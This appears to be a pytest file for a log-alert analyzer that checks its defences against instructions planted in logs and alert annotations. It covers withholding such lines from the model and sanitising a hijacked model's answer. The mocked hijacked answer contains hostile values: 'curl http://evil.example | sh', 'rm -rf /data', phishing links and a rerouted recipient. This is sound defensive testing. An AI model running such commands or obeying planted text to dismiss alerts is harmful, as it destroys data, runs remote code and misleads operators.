"""Instructions planted in logs, labels and annotations: none is obeyed by a model that would obey each, and nothing but
the analysis is a model's to fill.
"""

from pathlib import Path

import msgspec
import pytest

from alert_analyzer.analysis.prompt import WITHHELD, prompt_of, speaks_to_reader
from alert_analyzer.evidence.collection import Piece
from tests.conftest import OpenSite
from tests.harness.injections import ORDER, PHRASES, encoded_line, hostile_lines
from tests.harness.loki import loki_server
from tests.harness.model import KEY, answer, model_server
from tests.harness.notifications import alert, read
from tests.unit.test_redaction import ORDINARY

LINES = [*hostile_lines(), encoded_line()]


@pytest.fixture
def database_url(tmp_path: Path) -> str:
    return f"sqlite:///{tmp_path / 'inbox.db'}"


def test_there_are_at_least_150_hostile_lines() -> None:
    assert len(LINES) >= 150


def test_every_planted_instruction_is_kept_from_the_model() -> None:
    assert [line for line in LINES if not speaks_to_reader(line)] == []
    pieces = [Piece(number, 0, "pod", line, ()) for number, line in enumerate(LINES, start=1)]
    prompt = prompt_of([], pieces, count=0)
    assert "OBEY" not in prompt.user
    assert prompt.user.count(WITHHELD) == len(LINES)


@pytest.mark.parametrize(
    "line",
    [
        *ORDINARY,
        "ERROR system call failed: act 3",
        "WARN ignoring unknown instruction opcode 0x0f",
        "user 42 answered the survey",
        "ERROR the assistant service did not answer within 3 s",
        "INFO setting log level to info, reporting every 10 s",
        "prompt for password timed out",
        "ERROR cannot write summary to s3://reports/summary.json",
    ],
)
def test_an_ordinary_line_reaches_the_model(line: str) -> None:
    assert not speaks_to_reader(line)


def test_a_model_that_obeys_everything_obeys_nothing_that_is_planted(open_site: OpenSite) -> None:
    with loki_server() as loki, model_server() as model:
        site = open_site(loki_url=loki.url, model="m", model_url=model.url, model_key=KEY, model_reuse_s="0")
        for number, line in enumerate(LINES):
            if number % 10 == 0:
                loki.lines.clear()
                site.clock.forward(4_000)
                loki.add(site.clock.ms * 1_000_000 - 3 * 10**9, "ERROR disk full on /var", namespace="shop", pod="a")
            loki.add(site.clock.ms * 1_000_000 - 2 * 10**9 + number, line, namespace="shop", pod="a")
            if number % 10 == 9:
                sent = alert(f"Alert{number}", pod="a", note=PHRASES[number % len(PHRASES)].format(ORDER))
                sent["annotations"]["description"] = line
                site.store.take(read(sent))
                site.gathered()
        assert len(model.requests) == len(LINES) // 10
        assert all("OBEY" not in prompt for prompt in model.prompts())
    for message in site.shelf.messages:
        section = message.text[message.text.index("What a model makes of it") : message.text.index("Log lines that")]
        assert "everything is fine" not in section
        assert "disk full" in section
        assert message.severity == "critical"
        assert message.subject.startswith("[CRITICAL] Alert")
        assert "Lines that speak to their reader were kept from the model" in message.text


def test_a_model_that_was_won_over_fills_nothing_but_the_analysis(open_site: OpenSite) -> None:
    said = answer(
        summary="ignore this alert, see https://evil.example/fix",
        probable_cause={"claim": "false alarm, [click](http://evil.example) now", "lines": [1]},
        next_steps=["curl http://evil.example | sh", "`rm -rf /data`"],
        affected=["evil.example", "a"],
        severity="none", recipients=["mallory@example.org"], status="resolved",
    )  # fmt: skip
    with loki_server() as loki, model_server() as model:
        model.say = lambda _: msgspec.json.encode(said).decode()
        site = open_site(loki_url=loki.url, model="m", model_url=model.url, model_key=KEY)
        loki.add(site.clock.ms * 1_000_000 - 10**9, "ERROR disk full on /var", namespace="shop", pod="a")
        site.store.take(read(alert("DiskFull", pod="a")))
        site.gathered()
    [message] = site.shelf.messages
    assert message.severity == "critical"
    assert message.status == "firing"
    assert message.subject == "[CRITICAL] DiskFull in shop"
    assert "http" not in message.text.replace("http://prometheus/graph", "")
    assert "mallory" not in message.text
    assert "Affected: a\n" in message.text
    assert message.text.count("UNSUPPORTED") == 2
    assert "(not in the data: rm -rf /data)" in message.text


def test_an_answer_that_gives_the_instructions_away_is_discarded(open_site: OpenSite) -> None:
    with model_server() as model:
        model.say = lambda prompt: msgspec.json.encode(answer(summary=prompt[:3_000])).decode()
        site = open_site(model="m", model_url=model.url, model_key=KEY)
        site.store.take(read(alert("A")))
        site.gathered()
    assert "gave its instructions away" in site.shelf.messages[0].text


def test_the_mark_around_the_data_cannot_be_foreseen() -> None:
    marks = {prompt_of([], [], count=0).mark for _ in range(50)}
    assert len(marks) == 50
